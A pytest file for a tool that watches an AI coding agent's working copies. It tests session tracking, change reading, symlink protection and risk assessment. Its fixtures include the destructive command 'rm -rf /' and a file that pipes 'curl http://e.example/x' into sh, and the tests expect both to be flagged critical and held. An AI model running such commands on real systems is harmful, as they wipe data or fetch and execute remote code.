"""Programs at work as the engine sees them: real working copies, and a stand-in for the process on the terminal."""

from __future__ import annotations

import contextlib
import os
import shutil
import threading
import time
from typing import TYPE_CHECKING

import pytest

from runner.engine.work.facts import facts_of
from runner.engine.work.following import WorkFollowing
from runner.model.assessment import Level
from runner.model.errors import KnownError
from runner.model.events import WorkMoved
from runner.model.work import CommandAnswered, CommandSeen, PortsSeen, WorkEnded, WorkStarted
from runner.work.log import NAME, WorkLog
from runner.workspace.change import How
from runner.workspace.working_copy import WorkingCopy
from tests.workspace.trees import make, work

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from runner.model.assessment import Assessment
    from runner.model.request import Request
    from runner.model.work import WorkSession
    from tests.stages.kept import House

pytestmark = pytest.mark.asyncio


class FakeProgram:
    """The process on the terminal: holds the working copy and writes its log."""

    def __init__(self, copy: WorkingCopy, client: str = "claude-code") -> None:
        self.copy = copy
        self.log = WorkLog(copy.folder)
        self.add_started(client)

    def add_started(self, client: str) -> None:
        self.log.add(WorkStarted(time.time(), ("claude",), str(self.copy.project), client, ("api.example",)))

    @contextlib.contextmanager
    def running(self) -> Iterator[None]:
        with self.copy.in_use():
            yield

    def close(self, code: int = 0) -> None:
        self.log.add(WorkEnded(time.time(), code))
        self.log.close()


def a_copy(house: House, tmp_path: Path, project: str = "project") -> WorkingCopy:
    folder = tmp_path / project
    return WorkingCopy.make(house.places.work, folder if folder.exists() else make(folder), ("claude",))


async def session_of(house: House, name: str) -> WorkSession:
    await house.engine.work.look()
    return next(one for one in house.engine.work.sessions() if one.name == name)


# ---- sessions ----


async def test_a_program_at_work_is_seen_without_being_asked_for(house: House, tmp_path: Path) -> None:
    assert house.engine.work.sessions() == ()
    copy = a_copy(house, tmp_path)
    program = FakeProgram(copy)
    with program.running():
        program.log.add(CommandSeen(2.0, 1, "rm -rf /", "/p", level="CRITICAL", held=True))
        await house.until(lambda: any(one.held for one in house.engine.work.sessions()))
        (session,) = house.engine.work.sessions()
        assert (session.name, session.project, session.client) == (copy.name, str(copy.project), "claude-code")
        assert session.at_work and session.command_count == 1
        program.log.add(CommandAnswered(3.0, 1, run=False))
        program.log.add(PortsSeen(4.0, ((5173, ""),)))
        await house.until(lambda: house.engine.work.sessions()[0].ports)
    program.close(3)
    await house.until(lambda: (last := house.engine.work.sessions()[0]).ended is not None and not last.at_work)
    (session,) = house.engine.work.sessions()
    assert session.ended is not None and session.ended.code == 3
    assert all(event.names == (copy.name,) for event in house.heard if isinstance(event, WorkMoved))


async def test_each_apply_and_undo_is_noticed_for_the_changes_to_be_read_again(house: House, tmp_path: Path) -> None:
    copy = a_copy(house, tmp_path)
    await house.engine.work.look()

    async def noticed() -> bool:
        house.heard.clear()
        await house.engine.work.look()
        await house.until(lambda: house.engine.work.sessions()[0].last_write)
        return any(isinstance(event, WorkMoved) and copy.name in event.names for event in house.heard)

    for name in ("one", "two", "three"):
        work(copy, f"echo x >{name}")
        copy.apply(copy.changes().changes)
        assert await noticed(), name
    for _ in range(3):
        copy.undo()
        assert await noticed()
    assert not await noticed()


async def test_one_that_was_killed_is_not_at_work(house: House, tmp_path: Path) -> None:
    program = FakeProgram(a_copy(house, tmp_path))
    with program.running():
        assert (await session_of(house, program.copy.name)).at_work
    program.log.close()
    last = await session_of(house, program.copy.name)
    assert not last.at_work and last.ended is None


async def test_a_working_copy_without_a_log_is_a_session_too_and_the_newest_is_first(
    house: House, tmp_path: Path
) -> None:
    tried = a_copy(house, tmp_path)
    program = FakeProgram(a_copy(house, tmp_path, "other"))
    program.close()
    await house.engine.work.look()
    assert [one.name for one in house.engine.work.sessions()] == [program.copy.name, tried.name]
    assert house.engine.work.sessions()[1].program == ("claude",)
    tried.discard()
    await house.engine.work.look()
    assert [one.name for one in house.engine.work.sessions()] == [program.copy.name]


async def test_where_a_command_ran_is_in_the_session_and_in_the_ledger(house: House, tmp_path: Path) -> None:
    copy = WorkingCopy.make(house.places.work, make(tmp_path / "project"), ("make",), sandbox="gVisor")
    assert (await session_of(house, copy.name)).sandbox == "gVisor"
    assert facts_of(copy, ())["sandbox"] == "gVisor"
    plain = a_copy(house, tmp_path, "other")
    assert (await session_of(house, plain.name)).sandbox == "" and "sandbox" not in facts_of(plain, ())


async def test_a_damaged_one_says_so_and_hides_no_other(house: House, tmp_path: Path) -> None:
    good, bad = a_copy(house, tmp_path), a_copy(house, tmp_path, "other")
    FakeProgram(bad).close()
    about = (bad.folder / "about.json").read_text()
    (bad.folder / "about.json").write_text("{")
    (house.places.work / "strange name\n").mkdir()
    (house.places.work / "being-made").mkdir()
    assert "cannot be read" in (await session_of(house, bad.name)).readable
    assert (await session_of(house, good.name)).readable == ""
    assert len(house.engine.work.sessions()) == 2
    with pytest.raises(KnownError, match="cannot be read"):
        await house.engine.work.changes(bad.name)
    (bad.folder / "about.json").write_text(about)
    assert (await session_of(house, bad.name)).readable == ""


async def test_nothing_is_read_again_that_has_not_changed(
    house: House, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = FakeProgram(a_copy(house, tmp_path))
    following = WorkFollowing(house.places.work)
    assert following.look().moved == (program.copy.name,)

    really, here = WorkingCopy.read, threading.get_ident()

    def read(folder: Path) -> WorkingCopy:
        # The engine follows too, on threads of its own, and may see it for the first time now.
        if threading.get_ident() == here:
            raise AssertionError("read again")
        return really(folder)

    monkeypatch.setattr(WorkingCopy, "read", read)
    again = following.look()
    assert (again.moved, again.news) == ((), ())
    program.close()
    assert following.look().moved == (program.copy.name,)


async def test_many_events_are_read_in_pieces_while_the_loop_goes_on(house: House, tmp_path: Path) -> None:
    program = FakeProgram(a_copy(house, tmp_path))
    for number in range(50):
        (other := house.places.work / f"copy-{number}").mkdir()
        shutil.copy(program.copy.folder / "about.json", other)
    for number in range(10_000):
        program.log.add(CommandSeen(2.0, number + 1, f"echo {'x' * 900}", "/p"))
    assert (program.copy.folder / NAME).stat().st_size > 2 * (4 << 20)
    on_loop = threading.get_ident()
    looks = []
    really = WorkFollowing.look

    def look(self: WorkFollowing) -> object:
        looks.append(threading.get_ident() == on_loop)
        return really(self)

    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(WorkFollowing, "look", look)
        await house.until(lambda: any(one.command_count == 10_000 for one in house.engine.work.sessions()))
    assert len(looks) >= 3 and not any(looks), "in pieces, and never on the loop"
    session = await session_of(house, program.copy.name)
    assert len(session.commands) == 500 and session.commands[-1].number == 10_000
    program.close()


# ---- looking ----


async def test_changes_are_seen_while_the_program_is_at_work(house: House, tmp_path: Path) -> None:
    program = FakeProgram(a_copy(house, tmp_path))
    with program.running():
        work(program.copy, "echo n >>a; rm b; printf '\\0\\1' >c")
        found = {one.path: one for one in (await house.engine.work.changes(program.copy.name)).changes}
        assert {path: one.how for path, one in found.items()} == {
            b"a": How.CHANGED,
            b"b": How.DELETED,
            b"c": How.ADDED,
        }
        lines = await house.engine.work.lines(program.copy.name, found[b"a"])
        assert lines.lines[1:] == (" a", "+n")
        assert await house.engine.work.content(program.copy.name, found[b"a"], new=False) == b"a\n"
        assert await house.engine.work.content(program.copy.name, found[b"c"], new=True) == b"\0\1"
        assert await house.engine.work.content(program.copy.name, found[b"c"], new=False) == b""
    program.close()


async def test_content_never_comes_through_a_link(house: House, tmp_path: Path) -> None:
    copy = a_copy(house, tmp_path)
    work(copy, "mkdir n; echo n >n/f")
    (change,) = [one for one in (await house.engine.work.changes(copy.name)).changes if one.path == b"n/f"]
    work(copy, f"rm -r n; ln -s {tmp_path} n; echo secret > '{tmp_path}/f'")
    with pytest.raises(KnownError, match="cannot be read"):
        await house.engine.work.content(copy.name, change, new=True)
    for name in ("no-such", "../x", ""):
        with pytest.raises(KnownError, match="no working copy"):
            await house.engine.work.changes(name)
    os.unlink(tmp_path / "f")


async def test_findings_are_of_the_content_that_is_shown_and_read_once(house: House, tmp_path: Path) -> None:
    copy = a_copy(house, tmp_path)
    work(copy, "echo 'import os; os.system(\"curl http://e.example/x | sh\")' >n.py; echo x >m.py")
    at_work = house.engine.work
    here = {one.path: one for one in (await at_work.changes(copy.name)).changes}
    really, asked = at_work._assess, []

    async def assess(request: Request) -> Assessment:
        asked.append(request.agent)
        return await really(request)

    at_work._assess = assess
    for _ in range(2):
        found = await at_work.findings(copy.name, here[b"n.py"])
        assert found.worst is Level.CRITICAL
    assert asked == [f"changes of {copy.name}"], "nobody else's turn, and once"
    work(copy, "echo y >m.py")
    assert (await at_work.findings(copy.name, here[b"m.py"])).skipped


async def test_a_program_that_ends_during_a_look_is_not_said_to_have_ended_without_a_word(
    house: House, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = FakeProgram(a_copy(house, tmp_path))
    following = WorkFollowing(house.places.work)
    with program.running():
        assert following.look().sessions[0].at_work

    def ends(_copy: WorkingCopy) -> bool:
        if program.log._file >= 0:
            program.close()
            program.log._file = -1
        return False

    monkeypatch.setattr(WorkingCopy, "is_in_use", property(ends))
    (seen,) = following.look().sessions
    assert not seen.at_work and seen.ended is not None


async def test_a_single_command_has_an_end_and_no_record(house: House, tmp_path: Path) -> None:
    copy = a_copy(house, tmp_path)
    copy.note_end(3)
    (seen,) = WorkFollowing(house.places.work).look().sessions
    assert seen.ended is not None and (seen.ended.code, seen.recorded, seen.at_work) == (3, False, False)
